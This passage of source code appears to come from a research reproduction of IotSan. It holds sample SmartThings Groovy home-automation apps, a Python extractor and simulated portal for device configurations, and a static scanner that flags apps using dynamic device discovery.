def installed() {
    subscribe(detector, "smoke.detected", smokeHandler)
}

def updated() {
    unsubscribe()
    subscribe(detector, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
    heaters.off()
}
