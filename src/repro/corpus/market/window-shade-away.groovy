/**
 *  Window Shade Away
 */
definition(
    name: "Window Shade Away",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Close the window shades whenever the home goes into Away mode.",
    category: "Safety & Security")

preferences {
    section("Close these shades...") {
        input "shades", "capability.windowShade", title: "Shades", multiple: true
    }
    section("When the home changes to...") {
        input "awayMode", "mode", title: "Away mode?"
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def updated() {
    unsubscribe()
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == awayMode) {
        shades.close()
    }
}
