/**
 *  Medicine Reminder
 */
definition(
    name: "Medicine Reminder",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Text a reminder in the evening if the medicine cabinet was never opened.",
    category: "Health & Wellness")

preferences {
    section("Watch this cabinet...") {
        input "cabinet", "capability.contactSensor", title: "Cabinet contact"
    }
    section("Text this number...") {
        input "phone", "phone", title: "Phone number?"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    unschedule()
    initialize()
}

def initialize() {
    subscribe(cabinet, "contact.open", cabinetOpened)
    schedule("0 0 20 * * ?", eveningCheck)
}

def cabinetOpened(evt) {
    state.opened = true
}

def eveningCheck() {
    if (!state.opened) {
        sendSms(phone, "Remember to take your medicine today.")
    }
    state.opened = false
}
