/**
 *  Brighten My Path
 *
 *  Turn your lights on when motion is detected.
 */
definition(
    name: "Brighten My Path",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn your lights on when motion is detected.",
    category: "Convenience")

preferences {
    section("When there's movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("Turn on a light...") {
        input "switch1", "capability.switch", title: "Which light?"
    }
}

def installed() {
    subscribe(motion1, "motion.active", motionActiveHandler)
}

def updated() {
    unsubscribe()
    subscribe(motion1, "motion.active", motionActiveHandler)
}

def motionActiveHandler(evt) {
    switch1.on()
}
