/**
 *  Auto Lock Door
 */
definition(
    name: "Auto Lock Door",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Re-lock the door a few minutes after it closes.",
    category: "Safety & Security")

preferences {
    section("Watch this door contact...") {
        input "door", "capability.contactSensor", title: "Door contact"
    }
    section("Lock this lock...") {
        input "doorLock", "capability.lock", title: "Lock"
    }
    section("After this many minutes closed...") {
        input "delayMin", "number", title: "Minutes?"
    }
}

def installed() {
    subscribe(door, "contact.closed", doorClosedHandler)
}

def updated() {
    unsubscribe()
    subscribe(door, "contact.closed", doorClosedHandler)
}

def doorClosedHandler(evt) {
    runIn(delayMin * 60, lockDoor)
}

def lockDoor() {
    if (door.currentContact == "closed") {
        doorLock.lock()
    }
}
