/**
 *  Rise And Shine
 */
definition(
    name: "Rise And Shine",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Start the coffee and switch to day mode at the first morning motion.",
    category: "Convenience")

preferences {
    section("When there's movement here...") {
        input "motionSensor", "capability.motionSensor", title: "Motion"
    }
    section("Start the coffee machine...") {
        input "coffee", "capability.switch", title: "Coffee outlet"
    }
    section("If the home is still in...") {
        input "nightMode", "mode", title: "Night mode?"
    }
    section("Switching to...") {
        input "dayMode", "mode", title: "Day mode?"
    }
}

def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}

def updated() {
    unsubscribe()
    subscribe(motionSensor, "motion.active", motionHandler)
}

def motionHandler(evt) {
    if (location.mode == nightMode) {
        setLocationMode(dayMode)
        coffee.on()
    }
}
