/**
 *  Vacation Lighting
 */
definition(
    name: "Vacation Lighting",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Simulate occupancy by lighting the house on a schedule while you are away.",
    category: "Safety & Security")

preferences {
    section("Cycle these lights...") {
        input "lights", "capability.switch", multiple: true
    }
    section("While the home is in this mode...") {
        input "awayMode", "mode", title: "Away mode?"
    }
}

def installed() {
    schedule("0 30 19 * * ?", eveningTick)
}

def updated() {
    unschedule()
    schedule("0 30 19 * * ?", eveningTick)
}

def eveningTick() {
    if (location.mode == awayMode) {
        lights.on()
    }
}
