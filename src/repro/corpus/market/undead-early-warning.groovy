/**
 *  Undead Early Warning
 */
definition(
    name: "Undead Early Warning",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn on all the lights when the door opens during the night.",
    category: "Fun & Social")

preferences {
    section("When this door opens...") {
        input "door", "capability.contactSensor", title: "Door"
    }
    section("Turn on these lights...") {
        input "lights", "capability.switch", multiple: true
    }
    section("During this mode...") {
        input "nightMode", "mode", title: "Night mode?"
    }
}

def installed() {
    subscribe(door, "contact.open", doorOpenHandler)
}

def updated() {
    unsubscribe()
    subscribe(door, "contact.open", doorOpenHandler)
}

def doorOpenHandler(evt) {
    if (location.mode == nightMode) {
        lights.on()
    }
}
