/**
 *  Automated Light
 */
definition(
    name: "Automated Light",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn a light on with motion and off after a delay without motion.",
    category: "Convenience")

preferences {
    section("When there's movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("Turn on this light...") {
        input "switch1", "capability.switch"
    }
    section("And off after this many minutes without motion...") {
        input "delayMinutes", "number", title: "Minutes?"
    }
}

def installed() {
    subscribe(motion1, "motion", motionHandler)
}

def updated() {
    unsubscribe()
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        switch1.on()
    } else if (evt.value == "inactive") {
        runIn(delayMinutes * 60, turnOffAfterDelay)
    }
}

def turnOffAfterDelay() {
    if (motion1.currentMotion == "inactive") {
        switch1.off()
    }
}
