/**
 *  Brighten Dark Places
 *
 *  The Table 2 / Figure 4 worked example, vertex 0.
 */
definition(
    name: "Brighten Dark Places",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn your lights on when an open/close sensor opens and the space is dark.",
    category: "Convenience")

preferences {
    section("When the door opens...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("And it is dark according to...") {
        input "lightSensor", "capability.illuminanceMeasurement", title: "Light sensor"
    }
    section("Turn on a light...") {
        input "switch1", "capability.switch", title: "Which light?"
    }
}

def installed() {
    subscribe(contact1, "contact.open", contactOpenHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact.open", contactOpenHandler)
}

def contactOpenHandler(evt) {
    if (lightSensor.currentIlluminance < 30) {
        switch1.on()
    }
}
