/**
 *  Double Tap Toggle
 */
definition(
    name: "Double Tap Toggle",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Toggle a bank of lights when the button is pushed.",
    category: "Convenience")

preferences {
    section("When this button is pushed...") {
        input "button1", "capability.button", title: "Button"
    }
    section("Toggle these lights...") {
        input "lights", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(button1, "button.pushed", buttonHandler)
}

def updated() {
    unsubscribe()
    subscribe(button1, "button.pushed", buttonHandler)
}

def buttonHandler(evt) {
    def values = lights.currentSwitch
    if (values.contains("on")) {
        lights.off()
    } else {
        lights.on()
    }
}
