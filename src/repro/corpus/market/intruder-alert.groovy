/**
 *  Intruder Alert
 */
definition(
    name: "Intruder Alert",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Sound the alarm, snap a picture and text you when the entry opens while the home is Away.",
    category: "Safety & Security")

preferences {
    section("When this entry opens...") {
        input "entry", "capability.contactSensor", title: "Entry contact"
    }
    section("Sound this alarm...") {
        input "alarmDevice", "capability.alarm", title: "Alarm"
    }
    section("Take a photo with (optional)...") {
        input "camera", "capability.imageCapture", title: "Camera", required: false
    }
    section("And text (optional)...") {
        input "phone", "phone", title: "Phone number?", required: false
    }
}

def installed() {
    subscribe(entry, "contact.open", intrusionHandler)
}

def updated() {
    unsubscribe()
    subscribe(entry, "contact.open", intrusionHandler)
}

def intrusionHandler(evt) {
    if (location.mode == "Away") {
        alarmDevice.both()
        if (camera) {
            camera.take()
        }
        if (phone) {
            sendSms(phone, "Intruder alert: ${entry.displayName} opened while you were away!")
        }
    }
}
