/**
 *  Welcome Home
 */
definition(
    name: "Welcome Home",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Unlock the front door, light the entry and switch to Home mode when you arrive.",
    category: "Convenience")

preferences {
    section("When this person arrives...") {
        input "person", "capability.presenceSensor", title: "Who?"
    }
    section("Unlock this lock...") {
        input "frontLock", "capability.lock", title: "Front lock"
    }
    section("Turn on these lights...") {
        input "lights", "capability.switch", multiple: true, required: false
    }
    section("And change to this mode...") {
        input "homeMode", "mode", title: "Home mode?", required: false
    }
}

def installed() {
    subscribe(person, "presence.present", arrivalHandler)
}

def updated() {
    unsubscribe()
    subscribe(person, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
    frontLock.unlock()
    if (lights) {
        lights.on()
    }
    if (homeMode) {
        setLocationMode(homeMode)
    }
}
