/**
 *  Virtual Thermostat
 *
 *  The Figure 1 app: controls a space heater or an air conditioner
 *  plugged into a smart outlet, based on a temperature sensor.
 */
definition(
    name: "Virtual Thermostat",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Control a space heater or window air conditioner in conjunction with any temperature sensor, like a SmartSense Multi.",
    category: "Green Living")

preferences {
    section("Choose a temperature sensor...") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)...") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional, leave blank to not require motion)...") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes...") {
        input "minutes", "number", title: "Minutes", required: false
    }
    section("But never go below (or above if A/C) this value with or without motion...") {
        input "emergencySetpoint", "decimal", title: "Emer Temp", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(sensor, "temperature", temperatureHandler)
    if (motion) {
        subscribe(motion, "motion", motionHandler)
    }
}

def temperatureHandler(evt) {
    evaluate()
}

def motionHandler(evt) {
    evaluate()
}

def evaluate() {
    def target = setpoint
    if (motion && motion.currentMotion != "active") {
        target = emergencySetpoint ?: setpoint
    }
    def currentTemp = sensor.currentTemperature
    if (mode == "cool") {
        if (currentTemp > target) {
            outlets.on()
        } else {
            outlets.off()
        }
    } else {
        if (currentTemp < target) {
            outlets.on()
        } else {
            outlets.off()
        }
    }
}
