/**
 *  Make It So
 */
definition(
    name: "Make It So",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Lock up the house when it goes into Away mode and warn about entries while away.",
    category: "Convenience")

preferences {
    section("Watch this motion sensor...") {
        input "motionSensor", "capability.motionSensor", title: "Motion", required: false
    }
    section("And this door...") {
        input "door", "capability.contactSensor", title: "Door contact", required: false
    }
    section("Lock these locks...") {
        input "locks", "capability.lock", multiple: true
    }
    section("When the home changes to...") {
        input "awayMode", "mode", title: "Away mode?"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(location, modeChangeHandler)
    if (door) {
        subscribe(door, "contact.open", entryHandler)
    }
}

def modeChangeHandler(evt) {
    if (evt.value == awayMode) {
        locks.lock()
    }
}

def entryHandler(evt) {
    if (location.mode == awayMode) {
        sendPush("${door.displayName} opened while the home was away.")
    }
}
