/**
 *  Light Off When Close
 */
definition(
    name: "Light Off When Close",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn the lights off when an open/close sensor closes.",
    category: "Convenience")

preferences {
    section("When the door closes...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("Turn off a light...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact.closed", contactClosedHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact.closed", contactClosedHandler)
}

def contactClosedHandler(evt) {
    switches.off()
}
