/**
 *  Bon Voyage
 */
definition(
    name: "Bon Voyage",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Darken the house and switch to Away mode once everyone has departed.",
    category: "Mode Magic")

preferences {
    section("When all of these people leave...") {
        input "people", "capability.presenceSensor", title: "Who?", multiple: true
    }
    section("Turn off these lights...") {
        input "lights", "capability.switch", multiple: true
    }
    section("And change to this mode...") {
        input "awayMode", "mode", title: "Away mode?", required: false
    }
}

def installed() {
    subscribe(people, "presence.not present", departureHandler)
}

def updated() {
    unsubscribe()
    subscribe(people, "presence.not present", departureHandler)
}

def departureHandler(evt) {
    if (everyoneIsAway()) {
        lights.off()
        def target = awayMode ?: "Away"
        setLocationMode(target)
    }
}

def everyoneIsAway() {
    def values = people.currentPresence
    return !values.contains("present")
}
