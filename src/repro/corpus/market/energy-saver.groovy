/**
 *  Energy Saver
 */
definition(
    name: "Energy Saver",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn things off when the whole-home energy meter reports consumption above a threshold.",
    category: "Green Living")

preferences {
    section("When this energy meter...") {
        input "meter", "capability.powerMeter", title: "Meter"
    }
    section("Reports power above...") {
        input "threshold", "number", title: "Watts?"
    }
    section("Turn off these devices...") {
        input "devices", "capability.switch", title: "Devices", multiple: true
    }
}

def installed() {
    subscribe(meter, "power", powerHandler)
}

def updated() {
    unsubscribe()
    subscribe(meter, "power", powerHandler)
}

def powerHandler(evt) {
    if (evt.doubleValue > threshold) {
        devices.off()
    }
}
