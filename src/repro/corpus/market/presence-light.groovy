/**
 *  Presence Light
 */
definition(
    name: "Presence Light",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Follow a presence sensor with a light: on when present, off when gone.",
    category: "Convenience")

preferences {
    section("When this person is home...") {
        input "person", "capability.presenceSensor", title: "Who?"
    }
    section("Keep this light on...") {
        input "light", "capability.switch", title: "Light"
    }
}

def installed() {
    subscribe(person, "presence", presenceHandler)
}

def updated() {
    unsubscribe()
    subscribe(person, "presence", presenceHandler)
}

def presenceHandler(evt) {
    if (evt.value == "present") {
        light.on()
    } else {
        light.off()
    }
}
