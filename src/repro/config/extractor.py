"""The Configuration Extractor: crawls the management portal's HTML.

Plays the role of the paper's Java/Jsoup crawler (§7): given the rendered
management page it extracts (i) installed devices, (ii) installed smart
apps, (iii) configurations of apps, plus contacts, modes and the device
association table, and rebuilds a :class:`SystemConfiguration`.

Built on :mod:`html.parser` from the standard library (the Jsoup stand-in).
"""

from html.parser import HTMLParser

from repro.config.schema import AppConfig, DeviceConfig, SystemConfiguration


class _PortalParser(HTMLParser):
    """Streaming parser collecting the portal's class-tagged fragments."""

    def __init__(self):
        super().__init__()
        self._class_stack = []
        self._capture = None
        self._buffer = []
        # collected raw pieces
        self.mode = "Home"
        self.modes = []
        self.contacts = []
        self.device_rows = []
        self.apps = []
        self.roles = []
        self._current_row = []
        self._current_app = None

    # -- tag plumbing -----------------------------------------------------------

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        css = attrs.get("class", "")
        self._class_stack.append(css)
        if css == "smartapp":
            self._current_app = {"app": attrs.get("data-app"),
                                 "instance": attrs.get("data-instance"),
                                 "settings": []}
        if css in ("device", "setting", "role"):
            self._current_row = []
        if css in ("mode", "mode-option", "contact", "name", "label", "type",
                   "input", "value", "role-name", "role-value"):
            self._capture = css
            self._buffer = []

    def handle_endtag(self, tag):
        css = self._class_stack.pop() if self._class_stack else ""
        if self._capture and css == self._capture:
            text = "".join(self._buffer).strip()
            self._dispatch(self._capture, text)
            self._capture = None
        if css == "device":
            if len(self._current_row) >= 3:
                self.device_rows.append(tuple(self._current_row[:3]))
            self._current_row = []
        elif css == "setting" and self._current_app is not None:
            if len(self._current_row) >= 2:
                self._current_app["settings"].append(
                    (self._current_row[0], self._current_row[1]))
            self._current_row = []
        elif css == "role":
            if len(self._current_row) >= 2:
                self.roles.append((self._current_row[0], self._current_row[1]))
            self._current_row = []
        elif css == "smartapp" and self._current_app is not None:
            self.apps.append(self._current_app)
            self._current_app = None

    def handle_data(self, data):
        if self._capture:
            self._buffer.append(data)

    # -- collection -----------------------------------------------------------

    def _dispatch(self, css, text):
        if css == "mode":
            self.mode = text
        elif css == "mode-option":
            self.modes.append(text)
        elif css == "contact":
            self.contacts.append(text)
        elif css in ("name", "label", "type", "input", "value",
                     "role-name", "role-value"):
            self._current_row.append(text)


def _decode_value(text, declaration=None, device_names=()):
    """Invert :func:`repro.config.portal._encode_value`."""
    if "," in text:
        items = [item.strip() for item in text.split(",") if item.strip()]
        return [_decode_scalar(item, device_names) for item in items]
    value = _decode_scalar(text, device_names)
    if declaration is not None and declaration.is_device and declaration.multiple:
        return [value]
    return value


def _decode_scalar(text, device_names):
    if text in device_names:
        return text
    if text == "true":
        return True
    if text == "false":
        return False
    try:
        return int(text)
    except ValueError:
        pass
    try:
        return float(text)
    except ValueError:
        pass
    return text


def extract_from_html(html, app_registry=None):
    """Parse the management page back into a :class:`SystemConfiguration`."""
    parser = _PortalParser()
    parser.feed(html)
    devices = [DeviceConfig(name, type_name, label)
               for name, label, type_name in parser.device_rows]
    device_names = {d.name for d in devices}

    apps = []
    for raw in parser.apps:
        smart_app = (app_registry or {}).get(raw["app"])
        bindings = {}
        for input_name, text in raw["settings"]:
            declaration = smart_app.input(input_name) if smart_app else None
            bindings[input_name] = _decode_value(text, declaration, device_names)
        apps.append(AppConfig(raw["app"], bindings, raw["instance"]))

    association = {}
    for role, text in parser.roles:
        association[role] = _decode_value(text, None, device_names)

    return SystemConfiguration(
        devices=devices, apps=apps, contacts=parser.contacts,
        modes=parser.modes or None, initial_mode=parser.mode,
        association=association)


class ConfigurationExtractor:
    """End-to-end extractor: portal page (or JSON file) -> configuration.

    ``extract(portal)`` crawls a :class:`ManagementPortal`;
    ``extract_json(text)`` is the direct path used in batch experiments.
    """

    def __init__(self, app_registry=None):
        self.app_registry = app_registry or {}

    def extract(self, portal):
        return extract_from_html(portal.render(), self.app_registry)

    def extract_json(self, text):
        return SystemConfiguration.from_json(text)
