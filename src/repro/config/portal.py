"""A simulated SmartThings management web app.

The paper's Configuration Extractor logs into
``graph-na02-useast1.api.smartthings.com`` and crawls the rendered pages
with Jsoup (§7).  Without a SmartThings account we simulate the far side:
:class:`ManagementPortal` renders a :class:`SystemConfiguration` into the
same kind of HTML page structure (device list, installed-app list, per-app
settings table), which :mod:`repro.config.extractor` then crawls back.
This keeps the crawl-parse-bind code path honest.
"""

from html import escape

_PAGE_TEMPLATE = """<!DOCTYPE html>
<html>
<head><title>SmartThings - My Locations</title></head>
<body>
<h1>Home</h1>
<section id="location">
  <span class="mode">{mode}</span>
  <ul class="modes">
{modes}
  </ul>
  <ul class="contacts">
{contacts}
  </ul>
</section>
<section id="devices">
  <h2>Devices</h2>
  <table class="devices">
    <tr><th>Name</th><th>Label</th><th>Type</th></tr>
{devices}
  </table>
</section>
<section id="smartapps">
  <h2>Installed SmartApps</h2>
{apps}
</section>
<section id="association">
  <h2>Device association</h2>
  <table class="association">
{association}
  </table>
</section>
</body>
</html>
"""

_APP_TEMPLATE = """  <div class="smartapp" data-app="{app}" data-instance="{instance}">
    <h3>{instance}</h3>
    <table class="settings">
{settings}
    </table>
  </div>
"""


class ManagementPortal:
    """Renders a configuration as the management web app would."""

    def __init__(self, config):
        self.config = config

    def render(self):
        """The full HTML page for this location."""
        config = self.config
        modes = "\n".join('    <li class="mode-option">%s</li>' % escape(m)
                          for m in config.modes)
        contacts = "\n".join('    <li class="contact">%s</li>' % escape(c)
                             for c in config.contacts)
        devices = "\n".join(
            '    <tr class="device"><td class="name">%s</td>'
            '<td class="label">%s</td><td class="type">%s</td></tr>'
            % (escape(d.name), escape(d.label), escape(d.type))
            for d in config.devices)
        apps = "\n".join(self._render_app(a) for a in config.apps)
        association = "\n".join(
            '    <tr class="role"><td class="role-name">%s</td>'
            '<td class="role-value">%s</td></tr>'
            % (escape(role), escape(_encode_value(value)))
            for role, value in sorted(config.association.items()))
        return _PAGE_TEMPLATE.format(
            mode=escape(config.initial_mode), modes=modes, contacts=contacts,
            devices=devices, apps=apps, association=association)

    def _render_app(self, app_config):
        rows = []
        for input_name, value in sorted(app_config.bindings.items()):
            rows.append(
                '      <tr class="setting"><td class="input">%s</td>'
                '<td class="value">%s</td></tr>'
                % (escape(input_name), escape(_encode_value(value))))
        return _APP_TEMPLATE.format(app=escape(app_config.app),
                                    instance=escape(app_config.instance_name),
                                    settings="\n".join(rows))


def _encode_value(value):
    """Encode a binding value the way the web app shows it."""
    if isinstance(value, list):
        return ", ".join(str(v) for v in value)
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)
