"""System configuration schema.

A :class:`SystemConfiguration` is everything the Configuration Extractor
learns about one deployment: (i) installed devices, (ii) installed smart
apps, (iii) per-app input bindings, plus the user-supplied device
association info ("this new outlet is used to control an AC", §7) and the
configured contacts for the leakage properties.
"""

import json


class DeviceConfig:
    """One installed device: unique name + device type + display label."""

    __slots__ = ("name", "type", "label")

    def __init__(self, name, type, label=None):  # noqa: A002
        self.name = name
        self.type = type
        self.label = label or name

    def to_dict(self):
        return {"name": self.name, "type": self.type, "label": self.label}

    @classmethod
    def from_dict(cls, data):
        return cls(data["name"], data["type"], data.get("label"))

    def __repr__(self):
        return "DeviceConfig(%r, %r)" % (self.name, self.type)


class AppConfig:
    """One installed app: which corpus app, and how its inputs are bound.

    ``bindings`` maps input name -> device name, list of device names, or a
    literal value (for ``number``/``enum``/... inputs).  ``instance_name``
    disambiguates multiple installs of the same app.
    """

    __slots__ = ("app", "bindings", "instance_name")

    def __init__(self, app, bindings=None, instance_name=None):
        self.app = app
        self.bindings = dict(bindings or {})
        self.instance_name = instance_name or app

    def to_dict(self):
        return {"app": self.app, "bindings": self.bindings,
                "instance_name": self.instance_name}

    @classmethod
    def from_dict(cls, data):
        return cls(data["app"], data.get("bindings"), data.get("instance_name"))

    def __repr__(self):
        return "AppConfig(%r)" % (self.instance_name,)


class SystemConfiguration:
    """The full extracted configuration of one IoT system."""

    def __init__(self, devices=(), apps=(), contacts=(), modes=None,
                 initial_mode="Home", association=None, http_allowed=()):
        self.devices = list(devices)
        self.apps = list(apps)
        #: configured phone numbers / contacts (P42)
        self.contacts = list(contacts)
        self.modes = list(modes) if modes is not None else ["Home", "Away", "Night"]
        self.initial_mode = initial_mode
        #: role -> device name / value (device association info, §7)
        self.association = dict(association or {})
        #: apps allowed to use network interfaces (user privacy preference, §3)
        self.http_allowed = list(http_allowed)

    # -- helpers ---------------------------------------------------------------

    def device(self, name):
        for device in self.devices:
            if device.name == name:
                return device
        return None

    def device_names(self):
        return [device.name for device in self.devices]

    def add_device(self, name, type_name, label=None):
        self.devices.append(DeviceConfig(name, type_name, label))
        return self

    def add_app(self, app, bindings=None, instance_name=None):
        self.apps.append(AppConfig(app, bindings, instance_name))
        return self

    def validate(self):
        """Basic well-formedness: unique names, bindings reference devices."""
        errors = []
        seen = set()
        for device in self.devices:
            if device.name in seen:
                errors.append("duplicate device name %r" % device.name)
            seen.add(device.name)
        instance_names = set()
        for app in self.apps:
            if app.instance_name in instance_names:
                errors.append("duplicate app instance %r" % app.instance_name)
            instance_names.add(app.instance_name)
            for input_name, value in app.bindings.items():
                names = value if isinstance(value, list) else [value]
                for name in names:
                    if isinstance(name, str) and name in seen:
                        continue
        return errors

    # -- serialization -----------------------------------------------------------

    def to_dict(self):
        return {
            "devices": [d.to_dict() for d in self.devices],
            "apps": [a.to_dict() for a in self.apps],
            "contacts": self.contacts,
            "modes": self.modes,
            "initial_mode": self.initial_mode,
            "association": self.association,
            "http_allowed": self.http_allowed,
        }

    def to_json(self, indent=2):
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True)

    @classmethod
    def from_dict(cls, data):
        return cls(
            devices=[DeviceConfig.from_dict(d) for d in data.get("devices", [])],
            apps=[AppConfig.from_dict(a) for a in data.get("apps", [])],
            contacts=data.get("contacts", []),
            modes=data.get("modes"),
            initial_mode=data.get("initial_mode", "Home"),
            association=data.get("association"),
            http_allowed=data.get("http_allowed", []),
        )

    @classmethod
    def from_json(cls, text):
        return cls.from_dict(json.loads(text))

    def __repr__(self):
        return "SystemConfiguration(devices=%d, apps=%d)" % (
            len(self.devices), len(self.apps))
