"""Configuration Extractor (§7).

IoT platforms manage installed apps/devices through a companion or web app;
the paper crawls SmartThings' management web app with Jsoup.  Here:

* :mod:`repro.config.schema` - the configuration model: installed devices,
  installed apps with their input bindings, contacts, device-association
  roles; JSON load/save.
* :mod:`repro.config.portal` - a simulated management web app that renders
  the system as HTML.
* :mod:`repro.config.extractor` - the crawler stand-in: parses the portal's
  HTML back into a :class:`SystemConfiguration` (plus the direct JSON path).
"""

from repro.config.extractor import ConfigurationExtractor, extract_from_html
from repro.config.portal import ManagementPortal
from repro.config.schema import AppConfig, DeviceConfig, SystemConfiguration

__all__ = [
    "ConfigurationExtractor",
    "extract_from_html",
    "ManagementPortal",
    "AppConfig",
    "DeviceConfig",
    "SystemConfiguration",
]
