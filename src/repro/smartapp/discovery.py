"""Detection of dynamic device discovery (§11, limitation 2).

"We require smart apps to explicitly subscribe to specific devices they
want to control and cannot handle smart apps that dynamically discover
devices and interact with them.  Such apps are very dangerous since they
can control any device without permissions from users."  The paper's
four ContexIoT apps it cannot analyze (Midnight Camera, Auto Camera,
Auto Camera 2, Alarm Manager) are all of this kind.

IotSan cannot *model-check* such apps, but it can *detect* them
statically and refuse/flag them instead of silently mis-analyzing - that
is what this module does.  :func:`scan_app` reports every use of a
device-discovery API and every subscription/command whose target is not
one of the app's declared inputs.
"""

from repro.groovy import ast

#: platform APIs that enumerate devices behind the user's back
DISCOVERY_APIS = frozenset([
    "getChildDevices",
    "getAllChildDevices",
    "getChildDevice",
    "addChildDevice",
    "getDevices",
    "findAllDevicesByCapability",
])

#: predefined objects whose traversal reaches all hub devices
DISCOVERY_PROPERTIES = frozenset([
    ("location", "devices"),
    ("location", "hubs"),
    ("settings", "values"),
])


class DiscoveryFinding:
    """One dynamic-discovery indicator found in an app."""

    __slots__ = ("kind", "detail", "line")

    def __init__(self, kind, detail, line=0):
        self.kind = kind  # "api" | "property" | "unbound-target"
        self.detail = detail
        self.line = line

    def describe(self):
        return "%s: %s (line %d)" % (self.kind, self.detail, self.line)

    def __repr__(self):
        return "DiscoveryFinding(%s, %r)" % (self.kind, self.detail)


class DiscoveryReport:
    """All findings for one app."""

    def __init__(self, app, findings):
        self.app = app
        self.findings = list(findings)

    @property
    def uses_discovery(self):
        return bool(self.findings)

    def describe(self):
        if not self.findings:
            return "%s: no dynamic device discovery" % self.app.name
        lines = ["%s: DYNAMIC DEVICE DISCOVERY detected (%d finding(s)); "
                 "the model checker cannot bound this app's device access"
                 % (self.app.name, len(self.findings))]
        for finding in self.findings:
            lines.append("  - " + finding.describe())
        return "\n".join(lines)

    def __repr__(self):
        return "DiscoveryReport(%r, findings=%d)" % (self.app.name,
                                                     len(self.findings))


def scan_app(app):
    """Statically scan one :class:`SmartApp` for dynamic device discovery."""
    findings = []
    for node in app.program.walk():
        if isinstance(node, ast.Call) and node.name in DISCOVERY_APIS:
            findings.append(DiscoveryFinding(
                "api", "%s()" % node.name, node.line))
        elif isinstance(node, ast.MethodCall) and node.name in DISCOVERY_APIS:
            findings.append(DiscoveryFinding(
                "api", ".%s()" % node.name, node.line))
        elif isinstance(node, ast.Property):
            base = node.obj
            if (isinstance(base, ast.Name)
                    and (base.id, node.name) in DISCOVERY_PROPERTIES):
                findings.append(DiscoveryFinding(
                    "property", "%s.%s" % (base.id, node.name), node.line))
    return DiscoveryReport(app, findings)


def scan_registry(registry):
    """Scan every app; returns name -> DiscoveryReport for flagged apps."""
    flagged = {}
    for name, app in registry.items():
        report = scan_app(app)
        if report.uses_discovery:
            flagged[name] = report
    return flagged


def reject_discovery_apps(registry):
    """Split a registry into (analyzable, flagged) parts.

    The Model Generator should only see the analyzable part; the flagged
    part is reported to the user as unverifiable-and-dangerous.
    """
    flagged = scan_registry(registry)
    analyzable = {name: app for name, app in registry.items()
                  if name not in flagged}
    return analyzable, flagged
