"""SmartThings smart-app layer.

Turns a parsed Groovy program into a :class:`~repro.smartapp.app.SmartApp`:
metadata from ``definition(...)``, configuration inputs from
``preferences { input ... }``, and statically-extracted subscriptions and
schedules (the paper's SmartThings Handler, §6, plus the input-event
extraction of §5).
"""

from repro.smartapp.app import AppInput, SmartApp, Subscription, load_app, load_app_file
from repro.smartapp.discovery import (
    DiscoveryReport,
    reject_discovery_apps,
    scan_app,
    scan_registry,
)
from repro.smartapp.dsl import extract_definition, extract_inputs, extract_subscriptions

__all__ = [
    "AppInput",
    "SmartApp",
    "Subscription",
    "load_app",
    "load_app_file",
    "extract_definition",
    "extract_inputs",
    "extract_subscriptions",
    "DiscoveryReport",
    "reject_discovery_apps",
    "scan_app",
    "scan_registry",
]
