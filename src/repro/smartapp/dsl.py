"""Static extraction of the SmartThings DSL from parsed app source.

The paper's *SmartThings Handler* "parses these new syntaxes and converts
them into vanilla Groovy code using specifications based on the domain
knowledge of SmartThings.  For instance, each ``input`` function defines a
global variable (or a class field) of the app.  Therefore, we traverse the
Groovy's AST of the app and visit all input functions to extract all global
variables of the app." (§6)

This module is that traversal: it extracts

* ``definition(...)`` metadata,
* every ``input`` declaration (each becomes an app global),
* every ``subscribe``/``schedule``/``runIn`` registration (§5's input-event
  extraction needs them).
"""

from repro.groovy import ast

#: input types that bind devices (versus plain configuration values)
DEVICE_INPUT_PREFIX = "capability."

#: scheduling APIs and the positional index of their handler argument
_SCHEDULE_APIS = {
    "runIn": 1,
    "runOnce": 1,
